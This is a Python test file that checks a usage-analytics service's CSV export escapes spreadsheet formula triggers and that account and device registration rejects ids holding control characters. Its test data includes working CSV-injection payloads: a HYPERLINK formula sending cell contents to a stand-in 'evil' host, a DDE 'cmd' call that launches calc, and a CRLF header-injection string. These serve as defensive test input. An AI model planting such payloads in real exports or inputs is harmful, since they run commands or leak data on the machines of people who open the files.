"""CSV exports never hand a spreadsheet a formula; ids with control characters are refused at registration."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import httpx
import pytest
from psycopg_pool import AsyncConnectionPool

from tests.storage.analytics_data import Row, add_accounts, copy_points
from usagehub.analytics.service import AnalyticsService
from usagehub.core.csvsafe import SafeWriter, safe_cell
from usagehub.errors import DomainError
from usagehub.graphql.context import Services
from usagehub.storage.keys import ApiKeys
from usagehub.storage.queries import Reads
from usagehub.storage.registry import Registry
from usagehub.web.analytics import analytics_routes
from usagehub.web.app import create_app

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_triggers_are_quoted(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.50", "+3", "1e-3", "0", "acc-1", "DE", "", None, Decimal("-1.5"), 7])
def test_numbers_and_plain_text_stay_as_they_are(cell: object) -> None:
    assert safe_cell(cell) == cell


def test_safe_writer_round_trips_through_a_csv_reader() -> None:
    out = io.StringIO()
    SafeWriter(out).writerows([["=1+1", "-4.25", "a,b"]])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "-4.25", "a,b"]


@pytest.mark.parametrize("bad", ["acc\r\nX-Injected: 1", "acc\x00", "acc\u202e", "", " acc", "a" * 201, "acc\u2028"])
async def test_registration_refuses_unusable_ids(pool: AsyncConnectionPool, bad: str) -> None:
    registry = Registry(pool)
    with pytest.raises(DomainError) as account:
        await registry.upsert_account(account_id=bad)
    with pytest.raises(DomainError) as device:
        await registry.upsert_device(device_id=bad)
    assert account.value.code == device.value.code == "BAD_ID"
    assert await registry.accounts(tenant="default", after=None, limit=10) == []


async def test_features_csv_escapes_ids_and_markets(pool: AsyncConnectionPool) -> None:
    evil = '=HYPERLINK("http://evil/","click")'
    await add_accounts(pool, {evil: "UTC", "plain": "UTC"}, market="@SUM(A1)")  # stored before ids were checked
    rows: list[Row] = [(acc, "electricity", "m", "energy", "usage", datetime(2026, 9, 1, 7, tzinfo=UTC)
                        + timedelta(days=d), Decimal(2)) for acc in (evil, "plain") for d in range(30)]
    await copy_points(pool, rows)
    service = AnalyticsService(pool)
    await service.refresh_features(date(2026, 10, 1))
    keys = ApiKeys(pool)
    token, principal = await keys.create(role="analytics")
    await service.grant_personal(principal.key_id)

    async def replay(_: list[int]) -> list[object]:
        return []

    services = Services(registry=Registry(pool), reads=Reads(pool), ingest_totals={}, replay=replay, extra={},
                        analytics=service)
    app = create_app(services, keys, ready=lambda: True, extra_routes=analytics_routes(service, keys))
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://hub") as client:
        body = (await client.get("/analytics/export/features.csv",
                                 headers={"authorization": f"Bearer {token}"})).text
    table = list(csv.DictReader(io.StringIO(body)))
    assert {r["account_id"] for r in table} == {"'" + evil, "plain"}
    assert {r["market"] for r in table} == {"'@SUM(A1)"}
    assert all(not v.startswith(("=", "+", "@")) for r in table for v in r.values() if v)
